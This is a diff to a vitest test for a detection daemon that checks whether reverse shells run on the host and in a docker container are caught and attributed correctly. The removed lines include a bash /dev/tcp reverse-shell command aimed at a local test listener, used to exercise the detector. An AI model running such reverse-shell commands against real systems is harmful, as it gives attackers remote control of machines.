@@ -8,10 +8,9 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { spawn, spawnSync, type ChildProcess } from "node:child_process";
 import { mkdtempSync, readFileSync, rmSync } from "node:fs";
-import net from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { inCI, kernelTier, run, startDaemon, type Daemon } from "./harness.js";
+import { hostAndContainerShells, inCI, kernelTier, run, startDaemon, type Daemon } from "./harness.js";
 
 const tier = kernelTier();
 const hasDocker = spawnSync("docker", ["--version"]).status === 0 && spawnSync("dockerd", ["--version"]).status === 0;
@@ -57,26 +56,14 @@ describe.runIf(tier.run && hasDocker)("kernel: a reverse shell in a docker conta
     daemon = startDaemon(["--stats-interval", "0"]);
     await daemon.ready;
 
-    // The host's shell exits at once; the container's is held until its finding is in.
-    const sockets = new Set<net.Socket>();
-    let hold = false;
-    const server = net.createServer((s) => { sockets.add(s); s.on("error", () => {}); if (!hold) s.end("exit\n"); });
-    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
-    const port = (server.address() as net.AddressInfo).port;
-    const shell = `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`;
-    const onHost = await run("bash", ["-c", `exec ${shell}`]);
-    hold = true;
     const name = `sockeye-docker-test-${process.pid}`;
     const cidFile = join(work, "shell.cid");
-    const inContainer = run("docker", ["run", "--rm", "--network", "host", "--cidfile", cidFile, "--name", name, IMAGE, "/bin/bash", "-c", shell]);
-
     type Finding = { rule: { id: string }; destination?: { port: number }; process: { pid: number };
       container?: { id: string; runtime: string; name?: string; image?: { name: string } }; sockeye: { ns_pid?: number } };
-    const findings = () => daemon!.findings().map((f) => f.finding as Finding).filter((f) => f.destination?.port === port);
-    const until = Date.now() + 30_000;
-    while (findings().length < 2 && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
-    for (const s of sockets) s.end("exit\n");
-    const containerShell = await inContainer;
+    const findingsFor = (port: number) => daemon!.findings().map((f) => f.finding as Finding).filter((f) => f.destination?.port === port);
+    const { port, onHost, inContainer: containerShell } = await hostAndContainerShells(
+      (shell) => run("docker", ["run", "--rm", "--network", "host", "--cidfile", cidFile, "--name", name, IMAGE, "/bin/bash", "-c", shell]), findingsFor);
+    const findings = () => findingsFor(port);
     expect(containerShell.status, containerShell.stderr).toBe(0);
     const containerId = readFileSync(cidFile, "utf8").trim();
     expect(containerId).toMatch(/^[0-9a-f]{64}$/);
@@ -86,7 +73,6 @@ describe.runIf(tier.run && hasDocker)("kernel: a reverse shell in a docker conta
     const inside = findings().find((f) => f.process.pid !== onHost.pid)!;
     expect(inside.container).toEqual({ id: containerId, runtime: "docker", name, image: { name: IMAGE } });
     expect(inside.sockeye.ns_pid).toBeLessThan(10);
-    server.close();
     expect(await daemon.stop()).toBe(0);
   }, 120_000);
 });
